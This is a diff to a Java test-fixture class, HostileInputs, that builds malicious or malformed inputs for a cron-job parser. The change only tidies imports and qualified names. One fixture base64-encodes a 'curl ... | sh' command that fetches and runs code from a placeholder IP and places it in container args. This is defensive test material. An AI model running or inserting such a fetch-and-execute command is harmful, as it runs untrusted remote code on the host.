@@ -1,8 +1,10 @@
 package dev.cronsentinel.testing;
 
+import com.fasterxml.jackson.core.JsonFactory;
 import com.fasterxml.jackson.core.JsonParser;
 import com.fasterxml.jackson.core.JsonProcessingException;
 import com.fasterxml.jackson.core.JsonToken;
+import com.fasterxml.jackson.core.StreamReadConstraints;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.TextNode;
@@ -13,9 +15,11 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.Arrays;
+import java.util.Base64;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.SplittableRandom;
 import java.util.stream.Collectors;
 import java.util.stream.Stream;
 
@@ -357,7 +361,7 @@ public final class HostileInputs {
             return in;
         }
         byte[] out = in.clone();
-        java.util.SplittableRandom r = new java.util.SplittableRandom(seed);
+        SplittableRandom r = new SplittableRandom(seed);
         for (int i = 0; i < count; i++) {
             int pos = r.nextInt(out.length);
             out[pos] = r.nextBoolean() ? (byte) (out[pos] ^ (1 << r.nextInt(8))) : (byte) r.nextInt(256);
@@ -480,8 +484,8 @@ public final class HostileInputs {
                 bytes(",\"stream\":\"stdout\"}}"));
     }
 
-    private static final com.fasterxml.jackson.core.JsonFactory UNLIMITED = com.fasterxml.jackson.core.JsonFactory.builder()
-            .streamReadConstraints(com.fasterxml.jackson.core.StreamReadConstraints.builder()
+    private static final JsonFactory UNLIMITED = JsonFactory.builder()
+            .streamReadConstraints(StreamReadConstraints.builder()
                     .maxNestingDepth(Integer.MAX_VALUE).maxStringLength(Integer.MAX_VALUE)
                     .maxNumberLength(Integer.MAX_VALUE).maxDocumentLength(-1).build())
             .build();
@@ -554,7 +558,7 @@ public final class HostileInputs {
                         + write(TextNode.valueOf(inner)) + "}}}";
             }
             case BASE64_TOKENS: {
-                String token = java.util.Base64.getEncoder().encodeToString("curl -s http://203.0.113.9/x | sh ".repeat(4).getBytes(StandardCharsets.UTF_8));
+                String token = Base64.getEncoder().encodeToString("curl -s http://203.0.113.9/x | sh ".repeat(4).getBytes(StandardCharsets.UTF_8));
                 return cronJob("[{\"name\":\"c\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\"],\"args\":[\""
                         + (token + " ").repeat(Math.max(1, size / token.length())) + "\"]}]");
             }
